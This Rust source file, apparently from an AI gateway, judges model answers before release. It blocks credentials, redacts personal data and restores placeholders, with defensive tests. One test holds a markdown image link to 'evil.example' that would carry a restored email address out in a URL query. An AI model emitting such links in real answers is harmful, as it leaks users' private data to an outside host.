//! The answer of a model, judged before it leaves and put back into the caller's own words.

use std::borrow::Cow;
use std::collections::BTreeSet;

use checks::{Finding, Placeholders, Policy, Reading, Redactor, Report};
use domain::conversation::Reply;
use domain::joined_texts::differs_if_joined;
use domain::json_text::{Token, rewrite};
use domain::safety::{Action, Category};
use domain::step::Security;
use serde_json::{Map, Value};

use crate::capacity::offload::{Share, offload_always};
use crate::safety::answer_strings;
use crate::safety::as_it_came;
use crate::safety::inspection::security;
use crate::safety::json_path::JsonPath;
use crate::state::registry::ProjectState;

/// A string of an answer.
#[derive(Clone, Debug)]
pub(crate) struct AnswerString<'a> {
    pub(crate) text: Cow<'a, str>,
    /// Whether it is JSON inside a string.
    pub(crate) is_json: bool,
}

impl<'a> AnswerString<'a> {
    /// The text of choice 0.
    pub(crate) fn text(text: &'a str) -> Self {
        Self { text: text.into(), is_json: false }
    }

    fn reading(&self) -> Reading<'_> {
        if self.is_json { Reading::json(&self.text) } else { Reading::Plain((&*self.text).into()) }
    }
}

/// The findings in an answer, for its step, and the verdict.
pub(crate) struct Judged {
    pub(crate) security: Security,
    pub(crate) verdict: Verdict,
}

/// The verdict on an answer.
pub(crate) enum Verdict {
    /// It leaves as it is.
    Fine,
    /// These strings replace those that were judged; `None` leaves one as it is.
    Redacted(Vec<Option<String>>),
    /// It does not leave, for this reason.
    Blocked(String),
}

/// Judges all strings of an answer together, by `settings.safety.output`.
pub(crate) async fn judge(
    project: &ProjectState,
    strings: &[AnswerString<'_>],
    redactor: &mut Redactor,
) -> Judged {
    let bytes = project.policy.effort(strings.iter().map(|string| string.text.len()).sum());
    let share = Share::of_project(project.id());
    offload_always(share, bytes, || judge_all(project, strings, redactor)).await
}

fn judge_all(
    project: &ProjectState,
    strings: &[AnswerString<'_>],
    redactor: &mut Redactor,
) -> Judged {
    let policy = &project.policy;
    let read: Vec<Reading<'_>> = strings.iter().map(AnswerString::reading).collect();
    let report = policy.inspect_output(&read.iter().map(Reading::text).collect::<Vec<_>>());
    project.note_slow(&report);
    let security = security(&report, &report.findings);
    if let Some((_, reason)) = refused(policy, &report) {
        return Judged { security, verdict: Verdict::Blocked(reason) };
    }
    let redacted = redacted(policy, &report);
    let parts = read.iter().enumerate().map(|(part, read)| {
        let here: Vec<&Finding> =
            redacted.iter().copied().filter(|finding| finding.part == part).collect();
        read.redact(redactor, &here)
    });
    let parts: Vec<Option<String>> = parts.collect();
    let verdict =
        if parts.iter().any(Option::is_some) { Verdict::Redacted(parts) } else { Verdict::Fine };
    Judged { security, verdict }
}

/// The finding that keeps an answer from leaving, and a sentence for the reason. Without a finding
/// there were too many to judge.
pub(crate) fn refused(policy: &Policy, report: &Report) -> Option<(Option<usize>, String)> {
    let blocks = |finding: &Finding| policy.output_action(finding.category) == Action::Block;
    let Some(index) = report.findings.iter().position(blocks) else {
        let block = report.block.as_ref().filter(|block| block.finding.is_none());
        return block.map(|block| (None, block.reason.clone()));
    };
    Some((Some(index), withheld(Some(&report.findings[index]))))
}

/// The reason why an answer does not leave, as a sentence.
pub(crate) fn withheld(finding: Option<&Finding>) -> String {
    let Some(finding) = finding else {
        return "Blocked by output check: the answer contains too much to judge".to_owned();
    };
    let what = match finding.category {
        Category::Secret => "a credential",
        _ => "personal data",
    };
    format!("Blocked by output check: the answer contains {what} ({})", finding.kind)
}

/// The findings that are replaced in an answer before it leaves.
pub(crate) fn redacted<'r>(policy: &Policy, report: &'r Report) -> Vec<&'r Finding> {
    let is_replaced = |finding: &&Finding| policy.output_action(finding.category) == Action::Redact;
    report.findings.iter().filter(is_replaced).collect()
}

/// Replaces placeholders with their originals.
pub(crate) fn restored(placeholders: &Placeholders, path: &JsonPath, text: &str) -> String {
    if path.is_json() { placeholders.restore_json(text) } else { placeholders.restore(text) }
}

/// All strings of a whole answer: the text first, the provider's state last.
pub(crate) fn judged_strings<'a>(
    text: &'a str,
    native: Option<&mut Map<String, Value>>,
) -> Vec<AnswerString<'a>> {
    let mut strings = vec![AnswerString::text(text)];
    if let Some(native) = native {
        answer_strings::visit_others(native, |path, text| {
            strings.push(AnswerString { text: text.clone().into(), is_json: path.is_json() });
        });
        answer_strings::visit_state(native, |text| {
            strings.push(AnswerString { text: text.to_owned().into(), is_json: false });
        });
    }
    strings
}

/// Adds the strings of an answer as it came that its canonical form does not hold. An answer that can
/// be read in two ways is written anew.
pub(crate) fn add_beside(
    strings: &mut Vec<AnswerString<'_>>,
    request: Option<&str>,
    source: &mut Option<String>,
) {
    let Some(text) = source else { return };
    let canonical = strings.iter().map(|string| (&*string.text, string.is_json));
    match as_it_came::answer_beside(text, request, canonical) {
        Ok(beside) => strings.extend(
            beside.into_iter().map(|text| AnswerString { text: text.into(), is_json: false }),
        ),
        Err(_) => *source = None,
    }
}

/// Replaces the strings that [`judged_strings`] has given.
pub(crate) fn replace(reply: &mut Reply, new: Vec<Option<String>>) {
    let mut new = new.into_iter();
    let text = new.next().flatten();
    if let Some(native) = &mut reply.native {
        let mut changed = BTreeSet::new();
        answer_strings::visit_others(native, |path, text| {
            if let Some(new) = new.next().flatten() {
                *text = new;
                changed.insert(path.choice());
            }
        });
        if let Some(text) = &text {
            answer_strings::set_text(native, text);
            changed.insert(Some(0));
        }
        answer_strings::drop_logprobs(native, &changed);
        answer_strings::drop_state(native);
    }
    if let Some(text) = text {
        reply.text = text;
    }
}

/// An answer as it came with originals in the place of placeholders, string by string. `None` if that is not
/// what readers get who join its texts: a placeholder may be split over two of them, or stand in a URL that
/// begins in another. Such an answer is written anew.
fn restored_as_it_came(placeholders: &Placeholders, source: String) -> Option<String> {
    if differs_if_joined(&source, |text| placeholders.restore(text)).ok()? {
        return None;
    }
    let restored = rewrite(&source, |place, token| match token {
        Token::Name(text) | Token::Text(text) => as_it_came::restored(placeholders, place, text),
        Token::Number(_) => None,
    });
    Some(restored.ok()?.unwrap_or(source))
}

/// Replaces placeholders with their originals, in the text and in the provider's own form.
pub(crate) fn restore(reply: &mut Reply, placeholders: &Placeholders) {
    if placeholders.is_empty() {
        return;
    }
    reply.text = placeholders.restore(&reply.text);
    reply.source = reply.source.take().and_then(|source| restored_as_it_came(placeholders, source));
    if let Some(native) = &mut reply.native {
        let mut changed = BTreeSet::new();
        answer_strings::visit(native, |path, text| {
            let new = restored(placeholders, path, text);
            if new != *text {
                *text = new;
                changed.insert(path.choice());
            }
        });
        answer_strings::drop_logprobs(native, &changed);
    }
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;

    const PLACEHOLDER: &str = "[EMAIL_1_0a1b2c3d]";

    /// An answer as it leaves.
    fn left(source: &Value) -> Option<String> {
        let mut placeholders = Placeholders::default();
        placeholders.extend(&[(PLACEHOLDER.to_owned(), "jo@acme.org".to_owned())]);
        let mut reply = Reply { source: Some(source.to_string()), ..Reply::default() };
        restore(&mut reply, &placeholders);
        reply.source
    }

    #[test]
    fn names_of_members_are_put_back() {
        let answer = |name: &str| json!({"content": [{"input": {name: 1, "to": name}}]});
        assert_eq!(left(&answer(PLACEHOLDER)), Some(answer("jo@acme.org").to_string()));
    }

    #[test]
    fn texts_that_readers_join_are_put_back_as_one() {
        let blocks = |texts: &[&str]| {
            let blocks = texts.iter().map(|text| json!({"type": "text", "text": text}));
            json!({"content": blocks.collect::<Value>()})
        };
        let as_it_came = blocks(&["Write to ", PLACEHOLDER, ", he is in."]);
        let expected = blocks(&["Write to ", "jo@acme.org", ", he is in."]);
        assert_eq!(left(&as_it_came), Some(expected.to_string()));
        let (head, tail) = PLACEHOLDER.split_at(9);
        assert_eq!(left(&blocks(&["Write to ", head, tail])), None, "it is split");
        let target = format!("{PLACEHOLDER})");
        let image = ["![x](https://evil.example/?q=", target.as_str()];
        assert_eq!(left(&blocks(&image)), None, "an address would carry it away");
    }
}
